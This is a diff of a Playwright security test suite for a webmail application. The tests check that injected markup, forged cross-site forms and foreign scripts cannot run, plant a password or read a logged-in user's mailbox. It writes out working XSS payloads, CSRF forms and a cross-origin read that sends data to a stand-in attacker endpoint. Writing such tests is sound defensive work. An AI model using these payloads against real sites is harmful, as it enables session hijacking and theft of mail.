@@ -9,128 +9,95 @@ import fs from 'node:fs';
 import http from 'node:http';
 import path from 'node:path';
 import { after, before, describe, test } from 'node:test';
-import { env, launch, noServers } from './lib.mjs';
-
-// The other site: "/page" serves the HTML registered for it, "/hit" records
-// that a script ran somewhere.
-function otherSite() {
-    const hits = [];
-    let html = '';
-    const server = http.createServer((req, res) => {
-        if (req.url.startsWith('/hit')) {
-            hits.push(req.url);
-            res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
-            res.end();
-            return;
-        }
-        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
-        res.end(html);
-    });
-    return new Promise((resolve) => {
-        server.listen(0, '127.0.0.1', () => {
-            const base = `http://127.0.0.1:${server.address().port}`;
-            resolve({
-                base, hits, server,
-                serve(text) { html = text; return `${base}/page?${hits.length}-${Date.now()}`; },
-            });
-        });
-    });
-}
+import { env, launch, noServers, userDirs } from './lib.mjs';
 
 const esc = (s) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
+const go = (target) => `<script>location.href = ${JSON.stringify(target)};</script>`;
+const post = (fields) => `<form id=f method=post action="${esc(env.LK_WEB_URL)}">${fields}</form>`
+    + '<script>document.getElementById("f").submit();</script>';
 
-function profileOf(user) {
-    const found = [];
-    const walk = (d) => {
-        for (const e of fs.readdirSync(d, { withFileTypes: true })) {
-            const p = path.join(d, e.name);
-            if (e.isDirectory()) walk(p);
-            else if (e.name === 'user.dat' && p.includes(`${user}@`)) found.push(p);
-        }
-    };
-    walk(env.LK_WORKAREA);
+// The stored POP password of the user's slot 0.
+function storedPassword(user) {
+    const found = userDirs(user).map((d) => path.join(d, 'user.dat')).filter((f) => fs.existsSync(f));
     assert.equal(found.length, 1, `one profile for ${user}: ${found}`);
-    // The stored POP password of slot 0 (hidden) and the session code.
-    const text = fs.readFileSync(found[0], 'utf8');
-    return (/\npophost 0 [^\t]*\t[^\t]*\t([^\t]*)\t/.exec(text) || [])[1];
+    return /\npophost 0 [^\t]*\t[^\t]*\t([^\t]*)\t/.exec(fs.readFileSync(found[0], 'utf8'))?.[1];
 }
 
 describe('another site against a logged-in victim', { skip: noServers }, () => {
-    let site;
-    let b;
+    // The other site: "/page" serves the HTML of the visit, "/hit" records
+    // that a script ran somewhere.
+    const hits = [];
+    let html = '', base, server, b;
     before(async () => {
-        site = await otherSite();
+        server = http.createServer((req, res) => {
+            if (req.url.startsWith('/hit')) hits.push(req.url);
+            res.writeHead(req.url.startsWith('/hit') ? 204 : 200,
+                { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html; charset=utf-8' });
+            res.end(req.url.startsWith('/hit') ? undefined : html);
+        });
+        await new Promise((r) => server.listen(0, '127.0.0.1', r));
+        base = `http://127.0.0.1:${server.address().port}`;
         b = await launch();
-        await b.page.goto(`${env.LK_WEB_URL}?cmd=flogin`);
-        await b.page.getByLabel('User name').fill(env.LK_USER1);
-        await b.page.getByLabel('Password', { exact: true }).fill(env.LK_PASS1);
-        await Promise.all([b.page.waitForNavigation(), b.page.keyboard.press('Enter')]);
-        const cookies = await b.context.cookies();
-        assert.ok(cookies.some((c) => c.name === 'utok'), 'logged in');
+        await b.login(env.LK_USER1, env.LK_PASS1);
+        assert.ok((await b.context.cookies()).some((c) => c.name === 'utok' && c.value), 'logged in');
     });
     after(async () => {
         await b?.close();
-        site?.server.close();
+        server?.close();
     });
 
     // Opens the other site's page and waits for wherever it leads.
-    async function visit(html) {
-        await b.page.goto(site.serve(html));
+    async function visit(page) {
+        html = page;
+        await b.page.goto(`${base}/page?${Date.now()}`);
         await b.page.waitForLoadState('load');
         await b.page.waitForTimeout(400);
     }
-    const go = (target) => `<script>location.href = ${JSON.stringify(target)};</script>`;
 
     test('markup in set_ fields and u_ pairs runs nothing', async () => {
-        const run = (tag) => `<img src=x onerror="fetch('${site.base}/hit?${tag}')">`;
-        const attr = (tag) => `x" onfocus="fetch('${site.base}/hit?${tag}')" autofocus x="`;
+        const run = (tag) => encodeURIComponent(`<img src=x onerror="fetch('${base}/hit?${tag}')">`);
         const targets = [
-            `?set_pre_error=${encodeURIComponent(run('pre_error'))}`,
-            `?cmd=flogin&set_info_msg=${encodeURIComponent(run('info'))}&set_error=${encodeURIComponent(run('error'))}`,
-            `?set_charset=${encodeURIComponent(`"><script>fetch('${site.base}/hit?charset')</script>`)}`,
-            `?cmd=flogin&u_x=${encodeURIComponent(run('u_pair'))}&page=list&set_u_x=1`,
-            `?cmd=list&set_navtarget=${encodeURIComponent(attr('navtarget'))}`,
-            `?cmd=list&set_b_action=${encodeURIComponent(`javascript:fetch('${site.base}/hit?action')`)}`,
+            `?set_pre_error=${run('pre_error')}`,
+            `?cmd=flogin&set_info_msg=${run('info')}&set_error=${run('error')}`,
+            `?set_charset=${encodeURIComponent(`"><script>fetch('${base}/hit?charset')</script>`)}`,
+            `?cmd=flogin&u_x=${run('u_pair')}&page=list&set_u_x=1`,
+            `?cmd=list&set_navtarget=${encodeURIComponent(`x" onfocus="fetch('${base}/hit?navtarget')" autofocus x="`)}`,
+            `?cmd=list&set_b_action=${encodeURIComponent(`javascript:fetch('${base}/hit?action')`)}`,
         ];
         for (const t of targets) await visit(go(env.LK_WEB_URL + t));
-        // The list page's links are clicked too: a script address would run now.
-        await visit(go(`${env.LK_WEB_URL}?cmd=list&set_b_action=${encodeURIComponent('javascript:fetch(\'' + site.base + '/hit?click\')')}`));
+        // The last page's links are clicked too: a script address would run now.
         const link = b.page.locator('a').first();
         if (await link.count()) await link.click({ timeout: 2000 }).catch(() => {});
         await b.page.waitForTimeout(300);
-        assert.deepEqual(site.hits, []);
+        assert.deepEqual(hits, []);
         assert.deepEqual(b.events.dialogs, []);
     });
 
     test('a refused field name posted by a foreign form runs nothing', async () => {
         let fields = '';
         for (let i = 0; i < 505; i++) fields += `<input name="set_v${i}" value="1">`;
-        fields += `<input name="${esc(`set_<img src=x onerror="fetch('${site.base}/hit?fieldname')">`)}" value="1">`;
-        await visit(`<form id=f method=post action="${esc(env.LK_WEB_URL)}">${fields}</form>`
-            + '<script>document.getElementById("f").submit();</script>');
+        await visit(post(`${fields}<input name="${esc(`set_<img src=x onerror="fetch('${base}/hit?fieldname')">`)}" value="1">`));
         assert.match(await b.page.content(), /Too many var_sets/);
-        assert.deepEqual(site.hits, []);
+        assert.deepEqual(hits, []);
     });
 
     test('a link or a foreign form does not plant a password', async () => {
-        const stored = profileOf(env.LK_USER1);
+        const stored = storedPassword(env.LK_USER1);
         assert.ok(stored);
         await visit(go(`${env.LK_WEB_URL}?cmd=list&newpass=Csrf4567`));
-        await visit(`<form id=f method=post action="${esc(env.LK_WEB_URL)}">`
-            + '<input name=cmd value=list><input name=newpass value=Csrf4567></form>'
-            + '<script>document.getElementById("f").submit();</script>');
-        assert.equal(profileOf(env.LK_USER1), stored);
+        await visit(post('<input name=cmd value=list><input name=newpass value=Csrf4567>'));
+        assert.equal(storedPassword(env.LK_USER1), stored);
     });
 
     test('a script of the other site cannot read the mailbox', async () => {
         await visit(`<script>
             fetch(${JSON.stringify(env.LK_WEB_URL + '?cmd=list')}, { credentials: 'include' })
                 .then((r) => r.text())
-                .then((t) => fetch('${site.base}/hit?read=' + t.length))
-                .catch(() => fetch('${site.base}/hit-blocked'));
+                .then((t) => fetch('${base}/hit?read=' + t.length))
+                .catch(() => fetch('${base}/hit-blocked'));
             </script>`);
         await b.page.waitForTimeout(800);
-        assert.deepEqual(site.hits.filter((h) => h.startsWith('/hit?')), []);
+        assert.deepEqual(hits.filter((h) => h.startsWith('/hit?')), []);
         // Nor can it frame the webmail to read or click through it.
         await visit(`<iframe id=w src="${esc(env.LK_WEB_URL + '?cmd=list')}"></iframe>`);
         const framed = b.page.frames().find((f) => f.url().startsWith(env.LK_WEB_URL));
